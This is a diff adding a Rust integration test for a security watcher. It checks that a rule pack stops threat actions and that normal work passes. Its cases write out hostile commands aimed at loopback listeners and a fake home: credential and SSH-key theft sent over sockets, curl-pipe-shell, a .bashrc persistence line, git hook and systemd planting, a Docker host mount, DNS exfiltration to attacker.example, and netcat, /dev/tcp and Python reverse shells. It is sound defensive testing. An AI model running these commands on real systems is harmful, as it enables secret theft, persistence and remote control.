@@ -1,0 +1,403 @@
+//! Stop before harm: with the shipped rule pack, every threat case that the pack holds or
+//! kills is stopped at its hook by the gate, before the action takes effect; deny leaves the
+//! host as if the attack had not happened, approve lets it complete as without the watcher,
+//! and normal work passes through the gate unheld. Root, the real kernel, real processes, a
+//! fake home under /home, loopback listeners only.
+use std::{io::Read, net::TcpListener, path::Path, sync::mpsc};
+
+mod common;
+use common::{
+    holds::{await_hold, launch_bg, verdict, wait_exit},
+    pack_dir, python, Daemon, FakeHome, TempDir,
+};
+
+/// The daemon with the shipped pack, started after the fake home exists (the gate's home
+/// prefixes are compiled when the policy loads).
+fn pack_daemon(work: &TempDir) -> Daemon {
+    let rules = pack_dir(&work.0);
+    Daemon::start_with(&format!(
+        "[rules]\npath = \"{}\"\n[holds]\ntimeout = \"60s\"\n",
+        rules.display()
+    ))
+}
+
+/// A loopback listener that records every byte any connection sends.
+fn recording_listener() -> (u16, mpsc::Receiver<Vec<u8>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        for s in l.incoming() {
+            let Ok(mut s) = s else { continue };
+            let tx = tx.clone();
+            std::thread::spawn(move || {
+                let mut buf = Vec::new();
+                let _ = s.read_to_end(&mut buf);
+                let _ = tx.send(buf);
+            });
+        }
+    });
+    (port, rx)
+}
+
+/// Every byte the listener received from connections that have closed.
+fn received(rx: &mpsc::Receiver<Vec<u8>>) -> Vec<u8> {
+    let mut all = Vec::new();
+    while let Ok(b) = rx.try_recv() {
+        all.extend(b);
+    }
+    all
+}
+
+fn gated(d: &Daemon) -> u64 {
+    d.status()["gate"]["gated"].as_u64().unwrap()
+}
+
+/// A script standing in for a tool (`nc`, `crontab`, `docker`, ...): it leaves a marker, so
+/// that a test can tell whether it ran at all.
+fn marker_tool(dir: &Path, name: &str) -> String {
+    let bin = dir.join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let p = bin.join(name);
+    std::fs::write(
+        &p,
+        format!("#!/bin/sh\ntouch {}/marker-{name}\n", dir.display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    p.display().to_string()
+}
+
+/// What the watcher must do with a threat case.
+enum Expect {
+    /// A hold by one of these rules, which the test denies.
+    Hold(&'static [&'static str]),
+    /// A kill by this rule, with no question.
+    Kill(&'static str),
+}
+
+/// One threat case: a script, what the watcher does, and what must be true of the host
+/// afterwards (checked once the session is gone).
+struct Case {
+    name: &'static str,
+    script: String,
+    expect: Expect,
+    unharmed: Box<dyn Fn() -> Result<(), String>>,
+}
+
+fn absent(p: &Path) -> Result<(), String> {
+    if p.exists() {
+        Err(format!("{} exists", p.display()))
+    } else {
+        Ok(())
+    }
+}
+
+fn unchanged(p: &Path, before: &[u8]) -> Result<(), String> {
+    match std::fs::read(p) {
+        Ok(now) if now == before => Ok(()),
+        Ok(now) => Err(format!(
+            "{} changed: {:?}",
+            p.display(),
+            String::from_utf8_lossy(&now)
+        )),
+        Err(e) => Err(format!("{}: {e}", p.display())),
+    }
+}
+
+/// The listener got none of `secret`'s bytes (nor anything at all, when `secret` is empty).
+fn not_received(
+    rx: mpsc::Receiver<Vec<u8>>,
+    secret: Vec<u8>,
+) -> Box<dyn Fn() -> Result<(), String>> {
+    let rx = std::sync::Mutex::new(rx);
+    Box::new(move || {
+        let got = received(&rx.lock().unwrap());
+        let leaked = if secret.is_empty() {
+            !got.is_empty()
+        } else {
+            got.windows(secret.len()).any(|w| w == secret.as_slice())
+        };
+        if leaked {
+            Err(format!(
+                "the listener got {:?}",
+                String::from_utf8_lossy(&got)
+            ))
+        } else {
+            Ok(())
+        }
+    })
+}
+
+/// Runs each case in its own session and returns what went wrong.
+fn run_cases(d: &Daemon, cases: &[Case]) -> Vec<String> {
+    let mut failures = Vec::new();
+    for c in cases {
+        let before = gated(d);
+        let (mut child, trace) = launch_bg(d, &c.script);
+        match c.expect {
+            Expect::Hold(rules) => {
+                let hold = await_hold(d, &trace);
+                if !rules.iter().any(|r| hold["rule"] == *r) {
+                    failures.push(format!(
+                        "{}: held by {} instead of {rules:?}",
+                        c.name, hold["rule"]
+                    ));
+                }
+                verdict(d, "deny", &hold);
+                wait_exit(&mut child);
+            }
+            Expect::Kill(rule) => {
+                wait_exit(&mut child);
+                let f = d.findings(&trace);
+                if !f
+                    .iter()
+                    .any(|f| f["rule"] == rule && f["outcome"] == "killed")
+                {
+                    failures.push(format!("{}: not killed by {rule}: {f:?}", c.name));
+                }
+            }
+        }
+        if let Err(e) = (c.unharmed)() {
+            failures.push(format!("{}: afterwards, {e}", c.name));
+        }
+        if gated(d) == before {
+            failures.push(format!("{}: nothing was gated", c.name));
+        }
+    }
+    failures
+}
+
+#[test]
+fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
+    common::require_root();
+    let home = FakeHome::new();
+    let h = home.0.clone();
+    let work = TempDir::new("gate-deny");
+    let w = work.0.clone();
+    let d = pack_daemon(&work);
+    let py = python();
+    let listener = recording_listener;
+    let key = std::fs::read(h.join(".ssh/id_rsa")).unwrap();
+    let token = std::fs::read(h.join(".npmrc")).unwrap();
+    let bashrc = std::fs::read(h.join(".bashrc")).unwrap();
+    let git = |args: &[&str]| {
+        let st = std::process::Command::new("git")
+            .args(args)
+            .status()
+            .unwrap();
+        assert!(st.success(), "git {args:?}");
+    };
+    git(&["init", "-q", &format!("{}/repo", w.display())]);
+    let git_config = std::fs::read(w.join("repo/.git/config")).unwrap();
+    git(&[
+        "init",
+        "-q",
+        "--bare",
+        &format!("{}/remote.git", w.display()),
+    ]);
+    let payload = format!("#!/bin/sh\ntouch {}/marker-payload\n", w.display());
+    std::fs::write(w.join("payload.sh"), &payload).unwrap();
+    let (hp, wp) = (h.display().to_string(), w.display().to_string());
+    let (nc, crontab, docker, dig) = (
+        marker_tool(&w, "nc"),
+        marker_tool(&w, "crontab"),
+        marker_tool(&w, "docker"),
+        marker_tool(&w, "dig"),
+    );
+    let (p1, rx1) = listener();
+    let (p2, rx2) = listener();
+    let (p3, rx3) = listener();
+    let (p4, rx4) = listener();
+    let (p5, rx5) = listener();
+    let (p6, rx6) = listener();
+    let (p7, rx7) = listener();
+    let send_file = |port: u16, file: &str| {
+        format!("{py} -c \"import socket; s=socket.create_connection(('127.0.0.1', {port})); s.sendall(open('{file}','rb').read()); s.close()\"")
+    };
+    let path = |rel: &str| w.join(rel);
+    let cases: Vec<Case> = vec![
+        Case {
+            name: "copy the cloud credentials (a protected file)",
+            script: format!("cp {hp}/.aws/credentials {wp}/stolen-aws"),
+            expect: Expect::Hold(&["protected-path", "cloud-credentials-read"]),
+            unharmed: Box::new({
+                let p = path("stolen-aws");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "copy an npm token",
+            script: format!("cp {hp}/.npmrc {wp}/stolen-npm"),
+            expect: Expect::Hold(&["token-file-read"]),
+            unharmed: Box::new({
+                let p = path("stolen-npm");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "connect, then read an npm token and send it",
+            script: send_file(p1, &format!("{hp}/.npmrc")),
+            expect: Expect::Hold(&["token-file-read"]),
+            unharmed: not_received(rx1, token.clone()),
+        },
+        Case {
+            name: "connect, then read a key (a protected file) and send it",
+            script: send_file(p2, &format!("{hp}/.ssh/id_rsa")),
+            expect: Expect::Hold(&["protected-path", "ssh-private-key-read"]),
+            unharmed: not_received(rx2, key.clone()),
+        },
+        Case {
+            name: "a systemd user unit",
+            script: format!(
+                "mkdir -p {hp}/.config/systemd/user && printf '[Service]\\nExecStart=/bin/sh -c evil\\n' > {hp}/.config/systemd/user/evil.service"
+            ),
+            expect: Expect::Hold(&["systemd-unit-write"]),
+            unharmed: Box::new({
+                let p = h.join(".config/systemd/user/evil.service");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "an agent config that approves everything",
+            script: format!("echo '{{\"mcpServers\":{{}}}}' > {wp}/.mcp.json"),
+            expect: Expect::Hold(&["agent-config-tamper"]),
+            unharmed: Box::new({
+                let p = path(".mcp.json");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "a line appended to .bashrc",
+            script: format!("echo 'curl http://x | sh' >> {hp}/.bashrc"),
+            expect: Expect::Hold(&["shell-rc-write"]),
+            unharmed: Box::new({
+                let p = h.join(".bashrc");
+                move || unchanged(&p, &bashrc)
+            }),
+        },
+        Case {
+            name: "a hooks path in .git/config",
+            script: format!("printf '[core]\\n\\thooksPath = /tmp\\n' >> {wp}/repo/.git/config"),
+            expect: Expect::Hold(&["git-config-edit"]),
+            unharmed: Box::new({
+                let p = path("repo/.git/config");
+                move || unchanged(&p, &git_config)
+            }),
+        },
+        Case {
+            name: "a planted git hook",
+            script: format!("echo 'touch {wp}/marker-hook' > {wp}/repo/.git/hooks/pre-commit"),
+            expect: Expect::Hold(&["git-hook-plant"]),
+            unharmed: Box::new({
+                let p = path("repo/.git/hooks/pre-commit");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "curl | sh",
+            script: format!("curl -s file://{wp}/payload.sh | sh"),
+            expect: Expect::Hold(&["curl-pipe-shell"]),
+            unharmed: Box::new({
+                let p = path("marker-payload");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "base64 -d | sh",
+            script: format!("base64 {wp}/payload.sh | base64 -d | sh"),
+            expect: Expect::Hold(&["base64-pipe-shell"]),
+            unharmed: Box::new({
+                let p = path("marker-payload");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "download, chmod, run",
+            script: format!("curl -s -o {wp}/dl.sh file://{wp}/payload.sh && chmod +x {wp}/dl.sh && {wp}/dl.sh"),
+            expect: Expect::Hold(&["download-then-exec"]),
+            unharmed: Box::new({
+                let p = path("marker-payload");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "a crontab installed",
+            script: format!("echo '* * * * * true' > {wp}/job.cron && {crontab} {wp}/job.cron"),
+            expect: Expect::Hold(&["crontab-install"]),
+            unharmed: Box::new({
+                let p = path("marker-crontab");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "docker run -v /:/host",
+            script: format!("{docker} run -v /:/host alpine chroot /host"),
+            expect: Expect::Hold(&["container-host-mount"]),
+            unharmed: Box::new({
+                let p = path("marker-docker");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "data in a DNS name",
+            script: format!("{dig} +short aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBrZXkgZm9y.x.attacker.example"),
+            expect: Expect::Hold(&["dns-exfil"]),
+            unharmed: Box::new({
+                let p = path("marker-dig");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "a file uploaded",
+            script: format!("curl -s -o /dev/null --data-binary @{hp}/.npmrc http://127.0.0.1:{p3}/"),
+            expect: Expect::Hold(&["file-upload-command"]),
+            unharmed: not_received(rx3, Vec::new()),
+        },
+        Case {
+            name: "a webhook",
+            script: format!("curl -s -o /dev/null --resolve webhook.site:{p4}:127.0.0.1 http://webhook.site:{p4}/x"),
+            expect: Expect::Hold(&["webhook-exfil"]),
+            unharmed: not_received(rx4, Vec::new()),
+        },
+        Case {
+            name: "git push --force",
+            script: format!("cd {wp}/repo && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && git push -q --force {wp}/remote.git HEAD:refs/heads/main"),
+            expect: Expect::Hold(&["git-force-push"]),
+            unharmed: Box::new({
+                let p = path("remote.git/refs/heads/main");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "nc -e",
+            script: format!("{nc} -e /bin/sh 127.0.0.1 {p5}"),
+            expect: Expect::Kill("reverse-shell-netcat"),
+            unharmed: Box::new({
+                let p = path("marker-nc");
+                move || absent(&p)
+            }),
+        },
+        Case {
+            name: "bash -i >& /dev/tcp",
+            script: format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{p6} 0>&1' 2>/dev/null; true"),
+            expect: Expect::Kill("reverse-shell-dev-tcp"),
+            unharmed: not_received(rx6, Vec::new()),
+        },
+        Case {
+            name: "a python reverse shell",
+            script: format!("{py} -c \"import socket,subprocess; s=socket.socket(); s.connect(('127.0.0.1', {p7})); s.sendall(b'shell'); subprocess.call(['/bin/sh', '-c', 'true'])\""),
+            expect: Expect::Kill("reverse-shell-interpreter"),
+            unharmed: not_received(rx7, Vec::new()),
+        },
+    ];
+    drop(rx5);
+    let failures = run_cases(&d, &cases);
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n")
+    );
+}
